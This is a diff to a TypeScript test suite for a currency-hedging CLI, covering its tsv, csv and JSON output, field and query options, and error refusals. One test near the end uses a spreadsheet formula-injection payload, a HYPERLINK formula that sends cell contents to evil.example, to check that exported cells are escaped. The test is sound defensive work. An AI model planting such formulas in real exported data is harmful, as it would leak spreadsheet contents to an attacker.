@@ -5,7 +5,7 @@
 // --query are exit 2; a bad --query is refused before any request.
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { runHedge, tempDir, type RunResult } from '../support/hedge-cli.js';
+import { runHedge, tempDir, type HedgeArgs } from '../support/hedge-cli.js';
 import { FROZEN_KEY } from '../support/keys.js';
 import { apiData, pinnedClockEnv, startSimulator, type Simulator } from '../support/simulator.js';
 
@@ -89,7 +89,7 @@ const PATHS: Record<string, string> = {
 };
 
 /** A cell as TSV/CSV write the value: raw numbers, ISO times, empty when absent. */
-function cell(value: unknown): string {
+function cell(value: unknown) {
   return value === undefined || value === null ? '' : String(value);
 }
 
@@ -97,22 +97,22 @@ function cell(value: unknown): string {
 /** Each hedge's deal reference (GET /hedges): what a position's `client_reference` column is joined from. */
 let referenceOfHedge = new Map<string, unknown>();
 
-function columnValue(record: Record<string, any>, key: string): unknown {
+function columnValue(record: Record<string, any>, key: string) {
   const side = /^(capacity|carry)_(buy|sell)_/.exec(key);
-  if (side) return (side[1] === 'capacity' ? record.available_capacity_usd : record.net_rate_daily_pct)[side[2]!];
+  if (side) return (side[1] === 'capacity' ? record.available_capacity_usd : record.net_rate_daily_pct)[side[2]];
   // A position carries no reference of its own (the spec shows none): it is its hedge's.
   if (key === 'client_reference' && record.client_reference === undefined && typeof record.hedge_id === 'string')
     return referenceOfHedge.get(record.hedge_id);
   return record[key];
 }
 
-function hedge(args: string[]): Promise<RunResult> {
+function hedge(args: HedgeArgs) {
   return runHedge(args, { env: { ...simulator.env, ...pinnedClockEnv(simulator) }, configDir: config.path });
 }
 
-async function ok(args: string[]): Promise<string> {
+async function ok(args: HedgeArgs) {
   const result = await hedge(args);
-  expect(result.code, `hedge ${args.join(' ')}\n${result.stderr}`).toBe(0);
+  expect(result.code, `hedge ${String(args)}\n${result.stderr}`).toBe(0);
   return result.stdout;
 }
 
@@ -129,11 +129,8 @@ beforeAll(async () => {
   });
   simulator.sandbox.clock.advance(3_600_000);
   config = tempDir();
-  const hedges = (await apiData(simulator, 'GET', '/hedges?limit=500')) as Array<{
-    id: string;
-    client_reference?: string;
-  }>;
-  referenceOfHedge = new Map(hedges.map((entry) => [entry.id, entry.client_reference]));
+  const hedges = await apiData(simulator, 'GET', '/hedges?limit=500');
+  referenceOfHedge = new Map(hedges.map((entry: any) => [entry.id, entry.client_reference]));
 });
 
 afterAll(async () => {
@@ -146,33 +143,33 @@ describe.each(Object.keys(COLUMNS))('%s', (command) => {
     const [json, tsv, csv, ndjson, bare] = await Promise.all([
       ok([command, '--json']),
       ok([command]),
-      ok([command, '--format', 'csv']),
-      ok([command, '--format', 'ndjson']),
-      ok([command, '--format', 'tsv', '--no-header']),
+      ok(`${command} --format csv`),
+      ok(`${command} --format ndjson`),
+      ok(`${command} --format tsv --no-header`),
     ]);
-    const records = JSON.parse(json) as Array<Record<string, unknown>>;
+    const records = JSON.parse(json);
     // positions: the server's objects untouched, with the side's references at the top and its book
     // beside each (docs/output.md): its live hedge as the record has it.
     const sent =
       command === 'positions'
-        ? records.map(({ side_book: _book, client_reference: _one, client_references: _all, ...rest }) => rest)
+        ? records.map(({ side_book: _book, client_reference: _one, client_references: _all, ...rest }: any) => rest)
         : records;
-    expect(sent).toEqual(await apiData(simulator, 'GET', PATHS[command]!));
+    expect(sent).toEqual(await apiData(simulator, 'GET', PATHS[command]));
     if (command === 'positions') {
-      const hedge = (await apiData(simulator, 'GET', '/hedges?status=filled')) as Array<Record<string, unknown>>;
-      expect(records.map((record) => record.side_book)).toEqual([
+      const hedge = await apiData(simulator, 'GET', '/hedges?status=filled');
+      expect(records.map((record: any) => record.side_book)).toEqual([
         { state: 'in-step', why: null, records_notional_usd: 25_000, hedges: hedge },
       ]);
-      expect(records.map((record) => Object.keys(record).slice(0, 2))).toEqual([
+      expect(records.map((record: any) => Object.keys(record).slice(0, 2))).toEqual([
         ['client_reference', 'client_references'],
       ]);
-      expect(records.map((record) => [record.client_reference, record.client_references])).toEqual([
-        [hedge[0]!.client_reference, [hedge[0]!.client_reference]],
+      expect(records.map((record: any) => [record.client_reference, record.client_references])).toEqual([
+        [hedge[0].client_reference, [hedge[0].client_reference]],
       ]);
     }
     expect(records.length).toBe(command === 'history' ? 3 : command === 'hedges' ? 5 : 1);
 
-    const expected = records.map((record) => COLUMNS[command]!.map((key) => cell(columnValue(record, key))));
+    const expected = records.map((record: any) => COLUMNS[command].map((key) => cell(columnValue(record, key))));
     const tsvRows = tsv
       .trimEnd()
       .split('\n')
@@ -195,7 +192,7 @@ describe.each(Object.keys(COLUMNS))('%s', (command) => {
   });
 
   it('--fields picks and orders columns in tsv, csv and json; --query reshapes the JSON', async () => {
-    const [second, first] = [COLUMNS[command]![2]!, COLUMNS[command]![0]!];
+    const [second, first] = [COLUMNS[command][2], COLUMNS[command][0]];
     const [json, tsv, csv, fieldsJson, query, queryNd] = await Promise.all([
       ok([command, '--json']),
       ok([command, '--fields', `${second},${first}`]),
@@ -204,8 +201,8 @@ describe.each(Object.keys(COLUMNS))('%s', (command) => {
       ok([command, '--query', `[].${first}`]),
       ok([command, '--query', `[].{a: ${first}}`, '--format', 'ndjson']),
     ]);
-    const records = JSON.parse(json) as Array<Record<string, unknown>>;
-    const pairs = records.map((record) => [cell(columnValue(record, second)), cell(columnValue(record, first))]);
+    const records = JSON.parse(json);
+    const pairs = records.map((record: any) => [cell(columnValue(record, second)), cell(columnValue(record, first))]);
     expect(
       tsv
         .trimEnd()
@@ -213,28 +210,27 @@ describe.each(Object.keys(COLUMNS))('%s', (command) => {
         .map((line) => line.split('\t')),
     ).toEqual([[second, first], ...pairs]);
     expect(parse(csv)).toEqual(pairs);
-    const picked = JSON.parse(fieldsJson) as Array<Record<string, unknown>>;
-    expect(picked.map((record) => Object.keys(record))).toEqual(records.map(() => [second, first]));
-    expect(picked.map((record) => [cell(record[second]), cell(record[first])])).toEqual(pairs);
-    expect(JSON.parse(query)).toEqual(records.map((record) => record[first]));
+    const picked = JSON.parse(fieldsJson);
+    expect(picked.map((record: any) => Object.keys(record))).toEqual(records.map(() => [second, first]));
+    expect(picked.map((record: any) => [cell(record[second]), cell(record[first])])).toEqual(pairs);
+    expect(JSON.parse(query)).toEqual(records.map((record: any) => record[first]));
     expect(
       queryNd
         .trimEnd()
         .split('\n')
         .map((line) => JSON.parse(line)),
-    ).toEqual(records.map((record) => ({ a: record[first] })));
+    ).toEqual(records.map((record: any) => ({ a: record[first] })));
   });
 });
 
 describe('refusals', () => {
   it('an unknown --fields name is exit 2 naming it and the fields there are; stdout stays empty', async () => {
     for (const format of ['tsv', 'csv', 'json', 'table']) {
-      const result = await hedge(['hedges', '--fields', 'id,nope', '--format', format]);
+      const result = await hedge(`hedges --fields id,nope --format ${format}`);
       expect(result.code, format).toBe(2);
       expect(result.stdout).toBe('');
       // Under --format json the error is JSON on stderr too.
-      const message =
-        format === 'json' ? (JSON.parse(result.stderr) as { error: { message: string } }).error.message : result.stderr;
+      const message = format === 'json' ? JSON.parse(result.stderr).error.message : result.stderr;
       expect(message).toContain('--fields: "nope" is not a field here; available: id, client_reference, market, side,');
     }
   });
@@ -242,9 +238,9 @@ describe('refusals', () => {
   it('a bad --query is exit 2 naming --query, before any request: one line for a person, the JSON error only with --json', async () => {
     const before = simulator.sandbox.requestLog.length;
     const [syntax, unknownFunction, asJson] = await Promise.all([
-      hedge(['hedges', '--query', '[?status==']),
-      hedge(['positions', '--query', 'nosuch(@)']),
-      hedge(['positions', '--query', 'nosuch(@)', '--json']),
+      hedge('hedges --query [?status=='),
+      hedge('positions --query nosuch(@)'),
+      hedge('positions --query nosuch(@) --json'),
     ]);
     for (const result of [syntax, unknownFunction, asJson]) {
       expect(result.code).toBe(2);
@@ -266,22 +262,17 @@ describe('refusals', () => {
   });
 
   it('a record in tsv and csv is a header row of keys and one row: `hedges ID`, account', async () => {
-    const [hedges, account] = await Promise.all([ok(['hedges', '--json']), ok(['account', '--json'])]);
-    const id = (JSON.parse(hedges) as Array<{ id: string; order_tx_hash: string }>).find(
-      (entry) => entry.order_tx_hash,
-    )!;
-    const [one, accountCsv] = await Promise.all([
-      ok(['hedges', id.id, '--format', 'csv']),
-      ok(['account', '--format', 'csv']),
-    ]);
+    const [hedges, account] = await Promise.all([ok('hedges --json'), ok('account --json')]);
+    const id = JSON.parse(hedges).find((entry: any) => entry.order_tx_hash)!;
+    const [one, accountCsv] = await Promise.all([ok(`hedges ${id.id} --format csv`), ok('account --format csv')]);
     const [header, row, ...more] = parse(one) as string[][];
     expect(more).toEqual([]);
     expect(header).toEqual(COLUMNS.hedges);
-    expect(row![header!.indexOf('order_tx_hash')]).toBe(id.order_tx_hash);
+    expect(row[header.indexOf('order_tx_hash')]).toBe(id.order_tx_hash);
     const [accountHeader, accountRow] = parse(accountCsv) as string[][];
-    const expected = JSON.parse(account) as Record<string, unknown>;
-    expect(accountHeader!.slice(0, 2)).toEqual(['balance_usdc', 'margin_in_use_usdc']);
-    expect(accountRow).toEqual(accountHeader!.map((key) => cell(expected[key])));
+    const expected = JSON.parse(account);
+    expect(accountHeader.slice(0, 2)).toEqual(['balance_usdc', 'margin_in_use_usdc']);
+    expect(accountRow).toEqual(accountHeader.map((key) => cell(expected[key])));
   });
 });
 
@@ -290,11 +281,11 @@ describe('cells a spreadsheet would run as formulas (a deal reference is the use
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
     const own = await startSimulator();
     try {
-      const opened = await own.hedge(['open', 'USDTNGN', 'sell', '1000', '--tenor', '3', '--ref', formula, '--json']);
+      const opened = await own.hedge(`open USDTNGN sell 1000 --tenor 3 --ref ${formula} --json`);
       expect(opened.code, opened.stderr).toBe(0);
       expect(own.hedges().map((hedge) => hedge.clientReference)).toEqual([formula]);
-      const tsv = await own.hedge(['hedges', '--format', 'tsv', '--fields', 'client_reference,notional_usd']);
-      const csv = await own.hedge(['hedges', '--format', 'csv', '--fields', 'client_reference,notional_usd']);
+      const tsv = await own.hedge('hedges --format tsv --fields client_reference,notional_usd');
+      const csv = await own.hedge('hedges --format csv --fields client_reference,notional_usd');
       expect(tsv.code, tsv.stderr).toBe(0);
       expect(tsv.stdout.trimEnd().split('\n')).toEqual(['client_reference\tnotional_usd', `'${formula}\t1000`]);
       expect(parse(csv.stdout)).toEqual([
